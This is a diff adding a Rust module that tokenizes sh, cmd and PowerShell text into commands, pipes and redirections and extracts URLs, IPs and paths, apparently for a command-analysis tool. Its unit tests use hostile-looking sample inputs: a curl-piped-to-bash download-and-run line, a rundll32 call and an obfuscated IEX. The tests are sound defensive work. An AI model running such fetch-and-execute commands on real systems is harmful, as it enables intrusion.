@@ -1,0 +1,356 @@
+//! Shell-aware tokenizing: the commands of a text (executable and arguments), how they are
+//! chained (pipes, `&&`, `;`), redirections, and the indicators in it — URLs, IP addresses
+//! and paths. One tokenizer serves the three shells; what differs (quote and escape
+//! characters, separators, the words that only prefix a command) is chosen by [`Shell`].
+
+use std::net::Ipv4Addr;
+use std::sync::LazyLock;
+
+use regex::Regex;
+use serde::Serialize;
+
+use crate::Shell;
+
+/// Most commands and indicators kept for one text (the rest are counted, not listed).
+const MAX_ITEMS: usize = 256;
+
+/// One simple command.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Command {
+    /// The program: lower-case base name, extension (`.exe`, `.cmd`…) removed.
+    pub exe: String,
+    pub args: Vec<String>,
+}
+
+/// What the tokenizer found.
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct Tokens {
+    pub commands: Vec<Command>,
+    pub pipes: usize,
+    /// Redirection targets (`> file`, `>> file`, `2> file`).
+    pub redirections: Vec<String>,
+    pub urls: Vec<String>,
+    pub ips: Vec<String>,
+    pub paths: Vec<String>,
+}
+
+impl Tokens {
+    /// The executables, in order.
+    pub fn executables(&self) -> impl Iterator<Item = &str> {
+        self.commands.iter().map(|c| c.exe.as_str())
+    }
+}
+
+/// Words that run the command after them rather than being the program themselves.
+const PREFIXES: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "exec", "time", "nice", "ionice", "timeout", "stdbuf", "call",
+    "start", "command", "builtin", "xargs", "watch", "strace", "chroot", "unbuffer", "busybox",
+];
+
+/// Flags of the prefix words that take a value (`sudo -u root`, `nice -n 5`, `timeout -s KILL`).
+const VALUE_FLAGS: &[&str] = &[
+    "-u", "-g", "-p", "-C", "-D", "-h", "-U", "-r", "-t", "-T", "-n", "-c", "-s", "-k", "-P", "-I",
+    "-L", "-d",
+];
+
+/// Splits `text` into commands and collects its indicators.
+pub fn tokenize(text: &str, shell: Shell) -> Tokens {
+    let mut out = Tokens::default();
+    let mut words: Vec<String> = Vec::new();
+    let mut cur = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    let mut chars = text.chars().peekable();
+    let escape = match shell {
+        Shell::Powershell => '`',
+        Shell::Cmd => '^',
+        Shell::Sh | Shell::Bash => '\\',
+    };
+    let mut redirect_next = false;
+    while let Some(c) = chars.next() {
+        if let Some(q) = quote {
+            if c == q {
+                quote = None;
+            } else if c == escape && q == '"' && shell != Shell::Cmd {
+                if let Some(n) = chars.next() {
+                    cur.push(n);
+                }
+            } else {
+                cur.push(c);
+            }
+            continue;
+        }
+        match c {
+            '\'' if shell != Shell::Cmd => {
+                quote = Some('\'');
+                in_word = true;
+            }
+            '"' => {
+                quote = Some('"');
+                in_word = true;
+            }
+            c if c == escape => {
+                if let Some(n) = chars.next()
+                    && n != '\n'
+                {
+                    cur.push(n);
+                    in_word = true;
+                }
+            }
+            ' ' | '\t' | '\r' => end_word(
+                &mut words,
+                &mut cur,
+                &mut in_word,
+                &mut redirect_next,
+                &mut out,
+            ),
+            '(' | ')' if shell == Shell::Powershell => {
+                end_word(
+                    &mut words,
+                    &mut cur,
+                    &mut in_word,
+                    &mut redirect_next,
+                    &mut out,
+                );
+            }
+            '\n' | ';' | '&' | '|' | '(' | ')' | '{' | '}' => {
+                end_word(
+                    &mut words,
+                    &mut cur,
+                    &mut in_word,
+                    &mut redirect_next,
+                    &mut out,
+                );
+                if c == '|' {
+                    if chars.peek() == Some(&'|') {
+                        chars.next();
+                    } else {
+                        out.pipes += 1;
+                    }
+                }
+                if c == '&' && chars.peek() == Some(&'&') {
+                    chars.next();
+                }
+                end_command(&mut words, &mut out, shell);
+            }
+            '>' | '<' => {
+                let digits_only = !cur.is_empty() && cur.chars().all(|d| d.is_ascii_digit());
+                if digits_only {
+                    cur.clear();
+                    in_word = false;
+                }
+                end_word(
+                    &mut words,
+                    &mut cur,
+                    &mut in_word,
+                    &mut redirect_next,
+                    &mut out,
+                );
+                while matches!(chars.peek(), Some('>' | '<')) {
+                    chars.next();
+                }
+                // `2>&1`, `>&2`: a descriptor, not a file.
+                if chars.peek() == Some(&'&') {
+                    chars.next();
+                    while chars
+                        .peek()
+                        .is_some_and(|d| d.is_ascii_digit() || *d == '-')
+                    {
+                        chars.next();
+                    }
+                    continue;
+                }
+                redirect_next = c == '>';
+            }
+            c => {
+                cur.push(c);
+                in_word = true;
+            }
+        }
+    }
+    end_word(
+        &mut words,
+        &mut cur,
+        &mut in_word,
+        &mut redirect_next,
+        &mut out,
+    );
+    end_command(&mut words, &mut out, shell);
+    indicators(text, &mut out);
+    out
+}
+
+fn end_word(
+    words: &mut Vec<String>,
+    cur: &mut String,
+    in_word: &mut bool,
+    redirect_next: &mut bool,
+    out: &mut Tokens,
+) {
+    if !*in_word {
+        return;
+    }
+    let w = std::mem::take(cur);
+    *in_word = false;
+    if *redirect_next {
+        *redirect_next = false;
+        if out.redirections.len() < MAX_ITEMS {
+            out.redirections.push(w);
+        }
+        return;
+    }
+    if words.len() < 4096 {
+        words.push(w);
+    }
+}
+
+fn end_command(words: &mut Vec<String>, out: &mut Tokens, shell: Shell) {
+    let ws = std::mem::take(words);
+    let mut i = 0;
+    // Skip `VAR=value` assignments and prefix words with their flags.
+    while let Some(w) = ws.get(i) {
+        let lower = w.to_ascii_lowercase();
+        let assignment = shell != Shell::Cmd
+            && w.contains('=')
+            && !w.starts_with(['-', '/', '$'])
+            && !w.contains('/');
+        if assignment {
+            i += 1;
+        } else if PREFIXES.contains(&program_name(&lower).as_str()) && ws.len() > i + 1 {
+            i += 1;
+            while let Some(f) = ws.get(i).filter(|f| f.starts_with('-') && f.len() < 16) {
+                i += if VALUE_FLAGS.contains(&f.as_str()) {
+                    2
+                } else {
+                    1
+                };
+            }
+            // `timeout 10 cmd`, `nice 5 cmd`: a duration or a priority before the command.
+            if ws
+                .get(i)
+                .is_some_and(|w| w.trim_end_matches(['s', 'm', 'h']).parse::<f64>().is_ok())
+                && ws.len() > i + 1
+            {
+                i += 1;
+            }
+        } else {
+            break;
+        }
+    }
+    let Some(first) = ws.get(i) else {
+        return;
+    };
+    if out.commands.len() < MAX_ITEMS {
+        out.commands.push(Command {
+            exe: program_name(&first.to_ascii_lowercase()),
+            args: ws[i + 1..].to_vec(),
+        });
+    }
+}
+
+/// A program's base name without the Windows extensions.
+pub fn program_name(word: &str) -> String {
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let base = base.trim_matches(|c: char| c == '"' || c == '\'');
+    for ext in [
+        ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".wsf", ".msc", ".cpl", ".dll",
+    ] {
+        if let Some(stem) = base.strip_suffix(ext)
+            && !stem.is_empty()
+        {
+            return stem.to_string();
+        }
+    }
+    base.to_string()
+}
+
+static URL: LazyLock<Regex> = LazyLock::new(|| {
+    crate::re::fixed(r#"(?i)\b(?:https?|ftps?|tftp|smb|ldaps?|wss?|file)://[^\s'"<>|;`)\]]+"#)
+});
+static IPV4: LazyLock<Regex> = LazyLock::new(|| crate::re::fixed(r"\b(?:\d{1,3}\.){3}\d{1,3}\b"));
+static PATH: LazyLock<Regex> = LazyLock::new(|| {
+    crate::re::fixed(
+        r#"(?i)(?:\b[a-z]:\\[^\s'"|;<>]*|\\\\[\w.$-]+\\[^\s'"|;<>]*|(?:^|[\s'"=])(?:~|\$home)?/(?:etc|tmp|var|dev|proc|root|home|usr|bin|sbin|opt|lib|boot|sys|library|users|system|private|applications|\.ssh|\.config)(?:/[^\s'"|;<>&)]*)?)"#,
+    )
+});
+
+fn indicators(text: &str, out: &mut Tokens) {
+    for m in URL.find_iter(text).take(MAX_ITEMS) {
+        push_unique(&mut out.urls, m.as_str().trim_end_matches(['.', ',']));
+    }
+    for m in IPV4.find_iter(text).take(MAX_ITEMS) {
+        if m.as_str().parse::<Ipv4Addr>().is_ok() {
+            push_unique(&mut out.ips, m.as_str());
+        }
+    }
+    for m in PATH.find_iter(text).take(MAX_ITEMS) {
+        let p = m
+            .as_str()
+            .trim_start_matches([' ', '\t', '\n', '\'', '"', '=']);
+        push_unique(&mut out.paths, p);
+    }
+}
+
+fn push_unique(list: &mut Vec<String>, item: &str) {
+    if list.len() < MAX_ITEMS && !list.iter().any(|x| x == item) {
+        list.push(item.to_string());
+    }
+}
+
+/// Whether an IPv4 address is on the internet (not private, loopback, link-local, …).
+pub fn is_public_ipv4(ip: &str) -> bool {
+    ip.parse::<Ipv4Addr>().is_ok_and(|a| {
+        !(a.is_private()
+            || a.is_loopback()
+            || a.is_link_local()
+            || a.is_unspecified()
+            || a.is_broadcast()
+            || a.is_documentation()
+            || a.octets()[0] >= 224)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn sh_commands_pipes_and_redirections() {
+        let t = tokenize(
+            "sudo -u root env X=1 curl -s http://10.0.0.5/a.sh | bash > /tmp/out 2>&1; id",
+            Shell::Sh,
+        );
+        let exes: Vec<&str> = t.executables().collect();
+        assert_eq!(exes, ["curl", "bash", "id"]);
+        assert_eq!(t.pipes, 1);
+        assert_eq!(t.redirections, ["/tmp/out"]);
+        assert_eq!(t.urls, ["http://10.0.0.5/a.sh"]);
+        assert_eq!(t.ips, ["10.0.0.5"]);
+        assert!(t.paths.contains(&"/tmp/out".to_string()));
+    }
+
+    #[test]
+    fn cmd_and_powershell_quoting() {
+        let t = tokenize(
+            r#"C:\Windows\System32\cmd.exe /c "echo a&b" & Rundll32.EXE x.dll,Run"#,
+            Shell::Cmd,
+        );
+        let exes: Vec<&str> = t.executables().collect();
+        assert_eq!(exes, ["cmd", "rundll32"]);
+        assert_eq!(t.commands[0].args, ["/c", "echo a&b"]);
+        let t = tokenize(
+            "Get-Process | Where-Object { $_.Name -eq 'x' }; I`EX 'a'",
+            Shell::Powershell,
+        );
+        let exes: Vec<&str> = t.executables().collect();
+        assert_eq!(exes, ["get-process", "where-object", "$_.name", "iex"]);
+    }
+
+    #[test]
+    fn public_addresses() {
+        assert!(is_public_ipv4("8.8.8.8"));
+        assert!(!is_public_ipv4("10.10.10.10"));
+        assert!(!is_public_ipv4("192.0.2.1"));
+        assert!(!is_public_ipv4("999.1.1.1"));
+    }
+}
